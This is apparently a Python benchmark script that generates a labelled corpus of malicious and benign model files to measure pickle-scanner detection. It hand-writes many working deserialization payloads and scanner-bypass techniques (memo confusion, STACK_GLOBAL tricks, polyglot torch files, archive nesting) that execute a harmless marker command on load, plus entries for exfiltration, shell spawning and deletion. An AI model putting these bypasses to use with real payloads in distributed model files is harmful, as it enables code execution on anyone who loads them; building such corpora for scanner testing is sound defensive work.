"""Build the model-file scanning corpus: malicious files by many techniques, benign real models.

``python benchmarks/scan_corpus.py OUT_DIR`` writes the files and ``OUT_DIR/manifest.json``
(name, file, malicious or not, technique). ``benchmarks/scan.py`` builds it in a temporary
folder and scans it with mlgate, picklescan and modelscan.

Every malicious file here would run its payload if loaded with ``pickle.load``, ``torch.load``
(``weights_only=False``), ``joblib.load`` or ``numpy.load(allow_pickle=True)``: the payloads only
``touch`` a marker file, but nothing in the benchmark loads them. Techniques come from the
public bypass reports against denylist scanners: other modules with the same power
(``runpy``, ``pip``, ``timeit``, ``cProfile``, ``numpy.testing``…), ``getattr`` chains,
``operator``/``functools`` callables, names that only resolve at load time, dotted-name
traversal from an innocent module, streams after ``STOP``, truncation after the call,
polyglots, and payloads hidden in archives, arrays and compressed joblib files.
"""

from __future__ import annotations

import io
import json
import marshal
import pickle
import struct
import sys
import tarfile
import warnings
import zipfile
from dataclasses import asdict, dataclass
from pathlib import Path

CMD = "touch /tmp/mlgate-scan-corpus-was-here"
CODE = "import os; os.system('touch /tmp/mlgate-scan-corpus-was-here')"


@dataclass(frozen=True)
class Sample:
    name: str
    file: str
    malicious: bool
    technique: str


# -- hand-written opcodes ------------------------------------------------------------------------

def _arg(value) -> bytes:
    if isinstance(value, str):
        b = value.encode()
        return b"X" + struct.pack("<I", len(b)) + b
    if isinstance(value, int):
        return b"J" + struct.pack("<i", value)
    if value is None:
        return b"N"
    if isinstance(value, list):
        return b"](" + b"".join(_arg(v) for v in value) + b"e"
    if isinstance(value, dict):
        return b"}"
    if isinstance(value, bytes):
        return b"B" + struct.pack("<I", len(value)) + value
    raise TypeError(value)


def _args(*values) -> bytes:
    return b"(" + b"".join(_arg(v) for v in values) + b"t"


def call(module: str, name: str, *args, protocol: int = 2) -> bytes:
    """``module.name(*args)`` as a pickle stream."""
    if protocol >= 4:
        head = b"\x80\x04" + _short(module) + _short(name) + b"\x93"
    else:
        head = (b"\x80\x02" if protocol >= 2 else b"") + f"c{module}\n{name}\n".encode()
    return head + _args(*args) + b"R."


def _short(s: str) -> bytes:
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b


def handwritten() -> dict[str, tuple[bytes, str]]:
    """name -> (bytes, technique)."""
    getattr_chain = (b"\x80\x02cbuiltins\ngetattr\ncbuiltins\n__import__\n" + _args("os")
                     + b"R" + _arg("system") + b"\x86R" + _args(CMD) + b"R.")
    memo_names = (b"\x80\x04" + _short("os") + b"\x94" + _short("system") + b"\x94" + b"00"
                  + b"h\x00h\x01\x93" + _short(CMD) + b"\x85R.")
    computed = (b"\x80\x04" + _short("builtins") + _short("str") + b"\x93" + _short("os")
                + b"\x85R" + _short("system") + b"\x93" + _short(CMD) + b"\x85R.")
    joined = (b"\x80\x04" + _short("builtins") + _short("str.join") + b"\x93" + _short("")
              + b"(" + _short("o") + _short("s") + b"l\x86R"
              + _short("system") + b"\x93" + _short(CMD) + b"\x85R.")
    methodcaller = (b"\x80\x02coperator\nmethodcaller\n" + _args("system", CMD) + b"R"
                    + b"cbuiltins\n__import__\n" + _args("os") + b"R\x85R.")
    attrgetter = (b"\x80\x02coperator\nattrgetter\n" + _args("system") + b"R"
                  + b"cimportlib\nimport_module\n" + _args("os") + b"R\x85R" + _args(CMD) + b"R.")
    partial = (b"\x80\x02cfunctools\npartial\ncbuiltins\neval\n" + _arg(CODE) + b"\x86R)R.")
    code = marshal.dumps(compile(CODE, "<payload>", "exec"))
    marshal_fn = (b"\x80\x02ctypes\nFunctionType\ncmarshal\nloads\n" + _arg(code)
                  + b"\x85R}\x86R)R.")
    # picklescan#14: BINPUT and MEMOIZE mixed, so a scanner that numbers MEMOIZE from 0 sees
    # torch._utils._rebuild_tensor_v2 where the unpickler finds os.system
    memo_confusion = (b"\x80\x04" + _short("os") + b"q\x00" + _short("system") + b"q\x01"
                      + _short("torch._utils") + b"\x94" + _short("_rebuild_tensor_v2") + b"\x94"
                      + b"0000" + b"h\x00h\x01\x93" + _short(CMD) + b"\x85R.")
    # modelscan#85: BUILD sets numpy.prod.a = "os" and numpy.prod.b = "system", then
    # STACK_GLOBAL imports numpy.prod.a / numpy.prod.b as module and name
    build_setattr = (b"\x80\x05cnumpy\nprod\nN(Va\nVos\nd\x86bN(Vb\nVsystem\nd\x86b0"
                     b"cnumpy\nprod.a\np0\ncnumpy\nprod.b\np1\n00g0\ng1\n\x93V" + CMD.encode()
                     + b"\n\x85R.")
    out = {
        "memo-confusion": (memo_confusion, "BINPUT and MEMOIZE mixed (picklescan#14)"),
        "build-setattr-stack-global": (build_setattr,
                                       "BUILD sets numpy.prod attributes to 'os'/'system', "
                                       "then STACK_GLOBAL (modelscan#85)"),
        "getattr-chain": (getattr_chain, "getattr(__import__('os'), 'system')(cmd)"),
        "stack-global-memo": (memo_names, "STACK_GLOBAL with os/system taken from the memo"),
        "stack-global-computed": (computed, "STACK_GLOBAL whose module is str('os') at load"),
        "stack-global-joined": (joined, "STACK_GLOBAL whose module is ''.join(['o','s'])"),
        "operator-methodcaller": (methodcaller, "operator.methodcaller('system', cmd)(os)"),
        "operator-attrgetter": (attrgetter, "attrgetter('system')(import_module('os'))(cmd)"),
        "functools-partial": (partial, "functools.partial(eval, code)()"),
        "marshal-functiontype": (marshal_fn, "types.FunctionType(marshal.loads(...), {})()"),
        "py2-builtin-eval": (b"c__builtin__\neval\n" + _args(CODE) + b"R.",
                             "protocol 0 __builtin__.eval (mapped to builtins)"),
        "inst-opcode": (b"(S'" + CMD.encode() + b"'\nios\nsystem\n.",
                        "INST opcode, no REDUCE"),
        "obj-opcode": (b"(cos\nsystem\nS'" + CMD.encode() + b"'\no.", "OBJ opcode, no REDUCE"),
        "dotted-name": (b"\x80\x04" + _short("torch") + _short("serialization.os.system")
                        + b"\x93" + _short(CMD) + b"\x85R.",
                        "protocol 4 dotted name torch -> serialization.os.system"),
        "truncated-after-call": (call("os", "system", CMD)[:-1],
                                 "os.system runs, then the stream ends without STOP"),
        "after-stop": (pickle.dumps({"weights": [1.0]}, protocol=2) + call("os", "system", CMD),
                       "a benign pickle, then a second pickle after STOP"),
    }
    calls = {
        "posix-system": ("posix", "system", (CMD,), "posix.system (os under its real name)"),
        "os-system-p0": ("os", "system", (CMD,), "os.system, protocol 0"),
        "os-popen-p4": ("os", "popen", (CMD,), "os.popen, protocol 4 STACK_GLOBAL"),
        "builtins-exec": ("builtins", "exec", (CODE,), "builtins.exec"),
        "subprocess-getoutput": ("subprocess", "getoutput", (CMD,), "subprocess.getoutput"),
        "subprocess-popen": ("subprocess", "Popen", (["sh", "-c", CMD],), "subprocess.Popen"),
        "runpy-run-code": ("runpy", "_run_code", (CODE, {}), "runpy._run_code"),
        "pip-main": ("pip", "main", (["install", "some-evil-package"],), "pip.main(['install'])"),
        "pip-internal-main": ("pip._internal", "main", (["install", "x"],),
                              "pip._internal.main"),
        "ensurepip-run-pip": ("ensurepip", "_run_pip", (["install", "x"],),
                              "ensurepip._run_pip"),
        "importlib-import-module": ("importlib", "import_module", ("antigravity",),
                                    "importlib.import_module (import side effects)"),
        "pkgutil-resolve-name": ("pkgutil", "resolve_name", ("os:system",),
                                 "pkgutil.resolve_name('os:system') (GHSA-vvpj-8cmc-gx39)"),
        "timeit": ("timeit", "timeit", (CODE,), "timeit.timeit(stmt=code)"),
        "cprofile-run": ("cProfile", "run", (CODE,), "cProfile.run(code)"),
        "profile-run": ("profile", "run", (CODE,), "profile.run(code)"),
        "numpy-testing-runstring": ("numpy.testing._private.utils", "runstring", (CODE, {}),
                                    "numpy.testing._private.utils.runstring (exec)"),
        "torch-execwrapper": ("torch.jit.unsupported_tensor_ops", "execWrapper", (CODE,),
                              "torch.jit.unsupported_tensor_ops.execWrapper (exec)"),
        "torch-load-second-stage": ("torch", "load", ("/tmp/stage2.pt",),
                                    "torch.load of a second file"),
        "numpy-load-second-stage": ("numpy", "load", ("/tmp/stage2.npy",),
                                    "numpy.load of a second file"),
        "joblib-load-second-stage": ("joblib", "load", ("/tmp/stage2.joblib",),
                                     "joblib.load of a second file"),
        "pandas-read-pickle": ("pandas", "read_pickle", ("https://example.com/x.pkl",),
                               "pandas.read_pickle of a URL"),
        "pickle-loads-nested": ("pickle", "loads", (b"cos\nsystem\n(S'true'\ntR.",),
                                "pickle.loads of a nested stream"),
        "sklearn-run-script": ("sklearn.utils._testing",
                               "assert_run_python_script_without_output", (CODE,),
                               "a scikit-learn test helper that runs Python code"),
        "webbrowser-open": ("webbrowser", "open", ("https://example.com",), "webbrowser.open"),
        "shutil-rmtree": ("shutil", "rmtree", ("/tmp/nothing-here",), "shutil.rmtree"),
        "builtins-open-write": ("builtins", "open", ("/tmp/x", "w"), "builtins.open for writing"),
        "urllib-urlopen": ("urllib.request", "urlopen", ("https://example.com",),
                           "urllib.request.urlopen (exfiltration)"),
        "pty-spawn": ("pty", "spawn", ("sh",), "pty.spawn"),
        "ctypes-cdll": ("ctypes", "CDLL", ("libc.so.6",), "ctypes.CDLL"),
        "asyncio-subprocess": ("asyncio.subprocess", "create_subprocess_shell", (CMD,),
                               "asyncio.subprocess.create_subprocess_shell"),
    }
    for name, (module, fn, args, technique) in calls.items():
        protocol = 0 if name.endswith("p0") else 4 if name.endswith("p4") else 2
        out[name] = (call(module, fn, *args, protocol=protocol), technique)
    return out


# -- objects with __reduce__ ------------------------------------------------------------------

class Reduce:
    def __init__(self, func, *args):
        self.func, self.args = func, args

    def __reduce__(self):
        return self.func, self.args


class ReduceEx(Reduce):
    def __reduce_ex__(self, protocol):
        return self.func, self.args


def build(out: Path) -> list[Sample]:
    import os

    import numpy as np

    out.mkdir(parents=True, exist_ok=True)
    samples: list[Sample] = []

    def add(name: str, filename: str, data: bytes | None, malicious: bool, technique: str):
        path = out / filename
        if data is not None:
            path.write_bytes(data)
        samples.append(Sample(name, filename, malicious, technique))

    for name, (data, technique) in handwritten().items():
        add(name, f"{name}.pkl", data, True, technique)
    evil = Reduce(os.system, CMD)
    for p in range(6):
        add(f"reduce-os-system-p{p}", f"reduce-p{p}.pkl", pickle.dumps(evil, protocol=p), True,
            f"__reduce__ -> os.system, protocol {p}")
    add("reduce-ex", "reduce-ex.pkl", pickle.dumps(ReduceEx(os.system, CMD), protocol=4), True,
        "__reduce_ex__ -> os.system")
    add("nested-in-model", "nested.pkl",
        pickle.dumps({"model": {"coef": [1.0, 2.0], "hooks": [evil]}}, protocol=4), True,
        "payload deep inside an ordinary dict")

    # -- PyTorch
    try:
        import torch
    except ImportError:
        torch = None
    if torch is not None:
        net = torch.nn.Sequential(torch.nn.Linear(16, 8), torch.nn.ReLU(), torch.nn.Linear(8, 2))
        torch.save({"state_dict": net.state_dict(), "x": evil}, out / "torch-zip.pt")
        add("torch-zip", "torch-zip.pt", None, True, "torch.save (zip) with a payload")
        torch.save({"state_dict": net.state_dict(), "x": evil}, out / "torch-legacy.pt",
                   _use_new_zipfile_serialization=False)
        add("torch-legacy", "torch-legacy.pt", None, True, "torch.save legacy with a payload")
        torch.save(net.state_dict(), out / "benign-torch-state.pt")
        clean = (out / "benign-torch-state.pt").read_bytes()
        add("polyglot-prepended", "polyglot-prepended.pt", call("os", "system", CMD) + clean,
            True, "a pickle prepended to a valid torch zip (legacy loader runs it)")
        add("polyglot-appended", "polyglot-appended.pt", clean + call("os", "system", CMD),
            True, "a pickle appended after a valid torch zip")
        # a torch zip whose data.pkl is replaced by a payload
        buf = io.BytesIO()
        with zipfile.ZipFile(io.BytesIO(clean)) as src, zipfile.ZipFile(buf, "w") as dst:
            for info in src.infolist():
                data = src.read(info)
                if info.filename.endswith("data.pkl"):
                    data = call("builtins", "exec", CODE)
                dst.writestr(info, data)
        add("torch-zip-swapped-data-pkl", "torch-swapped.pt", buf.getvalue(), True,
            "torch zip with data.pkl replaced")
        inner = io.BytesIO()
        torch.save({"x": evil}, inner)
        blob = inner.getvalue()
        add("torch-embedded-bytes", "torch-embedded.pkl",
            b"\x80\x02ctorch.storage\n_load_from_bytes\nB" + struct.pack("<I", len(blob)) + blob
            + b"\x85R.", True, "torch.storage._load_from_bytes on an embedded torch file")

    # -- joblib, numpy
    try:
        import joblib
    except ImportError:
        joblib = None
    if joblib is not None:
        joblib.dump({"w": np.arange(1000.0), "x": evil}, out / "joblib-plain.joblib")
        add("joblib", "joblib-plain.joblib", None, True, "joblib.dump with a payload")
        joblib.dump({"w": np.arange(1000.0), "x": evil}, out / "joblib-zlib.joblib",
                    compress=("zlib", 3))
        add("joblib-zlib", "joblib-zlib.joblib", None, True, "joblib zlib-compressed payload")
        joblib.dump({"w": np.arange(1000.0), "x": evil}, out / "joblib-xz.joblib",
                    compress=("xz", 3))
        add("joblib-xz", "joblib-xz.joblib", None, True, "joblib xz-compressed payload")
        joblib.dump({"w": np.arange(1000.0), "o": np.array([1, evil], dtype=object)},
                    out / "joblib-object-array.joblib")
        add("joblib-object-array", "joblib-object-array.joblib", None, True,
            "payload inside an object array in a joblib file")
    np.save(out / "npy-object.npy", np.array([1, evil], dtype=object), allow_pickle=True)
    add("npy-object", "npy-object.npy", None, True, ".npy object array with a payload")
    np.savez(out / "npz-object.npz", a=np.arange(3), o=np.array([evil], dtype=object))
    add("npz-object", "npz-object.npz", None, True, ".npz member with an object-array payload")

    # -- archives
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("model/model.pkl", call("os", "system", CMD))
    outer = io.BytesIO()
    with zipfile.ZipFile(outer, "w") as zf:
        zf.writestr("inner.zip", inner.getvalue())
    with tarfile.open(out / "nested.tar.gz", "w:gz") as tf:
        info = tarfile.TarInfo("release/outer.zip")
        info.size = len(outer.getvalue())
        tf.addfile(info, io.BytesIO(outer.getvalue()))
    add("zip-in-zip-in-tar.gz", "nested.tar.gz", None, True, "zip in a zip in a tar.gz")
    with zipfile.ZipFile(out / "zip-model.zip", "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("model.pkl", call("os", "system", CMD))
    add("pickle-in-zip", "zip-model.zip", None, True, "a pickle inside a plain zip")

    _benign(out, add)
    (out / "manifest.json").write_text(json.dumps([asdict(s) for s in samples], indent=1))
    return samples


def _benign(out: Path, add) -> None:
    import numpy as np

    try:
        import joblib
        import pandas as pd
        from sklearn.compose import ColumnTransformer
        from sklearn.ensemble import HistGradientBoostingClassifier, RandomForestClassifier
        from sklearn.linear_model import LogisticRegression
        from sklearn.neighbors import KNeighborsClassifier
        from sklearn.pipeline import Pipeline
        from sklearn.preprocessing import OneHotEncoder, StandardScaler
        from sklearn.svm import SVC
    except ImportError:
        joblib = None
    rng = np.random.default_rng(0)
    if joblib is not None:
        X = rng.normal(size=(2000, 10))
        y = (X[:, 0] + X[:, 1] > 0).astype(int)
        df = pd.DataFrame({"a": X[:, 0], "b": X[:, 1], "c": rng.choice(["u", "v", "w"], 2000)})
        pre = ColumnTransformer([("num", StandardScaler(), ["a", "b"]),
                                 ("cat", OneHotEncoder(handle_unknown="ignore"), ["c"])])
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            models = {
                "logreg": LogisticRegression().fit(X, y),
                "forest": RandomForestClassifier(n_estimators=100, random_state=0).fit(X, y),
                "hgb": HistGradientBoostingClassifier(max_iter=20).fit(X, y),
                "svc": SVC().fit(X[:300], y[:300]),
                "knn": KNeighborsClassifier().fit(X, y),
                "pipeline": Pipeline([("pre", pre), ("clf", LogisticRegression())]).fit(df, y),
            }
        for name, model in models.items():
            add(f"benign-sklearn-{name}", f"benign-{name}.pkl",
                pickle.dumps(model, protocol=pickle.HIGHEST_PROTOCOL), False,
                f"scikit-learn {type(model).__name__}, pickle protocol 5")
        joblib.dump(models["forest"], out / "benign-forest.joblib")
        add("benign-joblib-forest", "benign-forest.joblib", None, False,
            "RandomForest (100 trees), joblib")
        joblib.dump(models["pipeline"], out / "benign-pipeline-gz.joblib", compress=("gzip", 3))
        add("benign-joblib-gzip", "benign-pipeline-gz.joblib", None, False,
            "Pipeline, joblib gzip")
        add("benign-pickle-p2-forest", "benign-forest-p2.pkl",
            pickle.dumps(models["forest"], protocol=2), False, "RandomForest, protocol 2")
        add("benign-pandas", "benign-frame.pkl", pickle.dumps(df, protocol=4), False,
            "pandas DataFrame")
        rich = pd.DataFrame({"t": pd.date_range("2020", periods=3, tz="Europe/Paris"),
                             "p": pd.period_range("2020", periods=3, freq="M"),
                             "i": pd.array([1, None, 3], dtype="Int64"),
                             "c": pd.Categorical(["a", "b", "a"], ordered=True)})
        add("benign-pandas-rich", "benign-frame-rich.pkl", pickle.dumps(rich, protocol=4), False,
            "pandas: tz-aware, period, nullable and categorical columns")
        add("benign-pickle-p0-logreg", "benign-logreg-p0.pkl",
            pickle.dumps(models["logreg"], protocol=0), False, "LogisticRegression, protocol 0")
        zoo = _sklearn_zoo()
        add("benign-sklearn-zoo", "benign-sklearn-zoo.pkl", pickle.dumps(zoo, protocol=5), False,
            f"{len(zoo)} scikit-learn estimators, default parameters, fitted where possible")
    np.save(out / "benign-array.npy", rng.normal(size=(1000, 100)))
    add("benign-npy", "benign-array.npy", None, False, "float64 .npy")
    np.savez_compressed(out / "benign-arrays.npz", a=np.arange(10_000), b=rng.normal(size=100))
    add("benign-npz", "benign-arrays.npz", None, False, "compressed .npz")
    try:
        import torch
    except ImportError:
        return
    net = torch.nn.Sequential(torch.nn.Linear(1024, 2048), torch.nn.ReLU(),
                              torch.nn.Linear(2048, 2048), torch.nn.ReLU(),
                              torch.nn.Linear(2048, 10))
    torch.save(net.state_dict(), out / "benign-torch-big.pt")
    add("benign-torch-state-big", "benign-torch-big.pt", None, False,
        "PyTorch state dict, 25 MB, zip")
    add("benign-torch-state", "benign-torch-state.pt", None, False, "small PyTorch state dict")
    torch.save(net.state_dict(), out / "benign-torch-legacy.pt",
               _use_new_zipfile_serialization=False)
    add("benign-torch-legacy", "benign-torch-legacy.pt", None, False,
        "PyTorch state dict, 25 MB, legacy format")
    add("benign-torch-plain-pickle", "benign-torch-plain.pkl", pickle.dumps(
        torch.nn.Sequential(torch.nn.Linear(64, 32), torch.nn.ReLU(), torch.nn.Linear(32, 2))),
        False, "plain pickle.dumps of an nn.Sequential (tensors as embedded torch files)")
    torch.save(net, out / "benign-torch-module.pt")
    add("benign-torch-module", "benign-torch-module.pt", None, False,
        "whole nn.Sequential (torch classes only)")
    torch.save({"model": net.state_dict(), "opt": torch.optim.Adam(net.parameters()).state_dict(),
                "epoch": 3}, out / "benign-torch-checkpoint.pt")
    add("benign-torch-checkpoint", "benign-torch-checkpoint.pt", None, False,
        "checkpoint: state dict + Adam state + epoch")


def _sklearn_zoo() -> list:
    """Every scikit-learn estimator that constructs with defaults, fitted on a small positive
    classification set when it accepts one."""
    import numpy as np
    from sklearn.utils import all_estimators

    rng = np.random.default_rng(1)
    X = np.abs(rng.normal(size=(60, 4))) + 0.1
    y = (X[:, 0] > np.median(X[:, 0])).astype(int)
    out = []
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        for _, cls in all_estimators():
            try:
                est = cls()
            except Exception:  # noqa: BLE001 - needs arguments
                continue
            for fit in (lambda e: e.fit(X, y), lambda e: e.fit(X)):
                try:
                    fit(est)
                    break
                except Exception:  # noqa: BLE001 - another kind of estimator
                    continue
            try:
                pickle.dumps(est)
            except Exception:  # noqa: BLE001 - not picklable
                continue
            out.append(est)
    return out


if __name__ == "__main__":
    target = Path(sys.argv[1] if len(sys.argv) > 1 else "scan_corpus")
    built = build(target)
    print(f"{len(built)} files in {target} "
          f"({sum(s.malicious for s in built)} malicious, {sum(not s.malicious for s in built)} "
          "benign)")
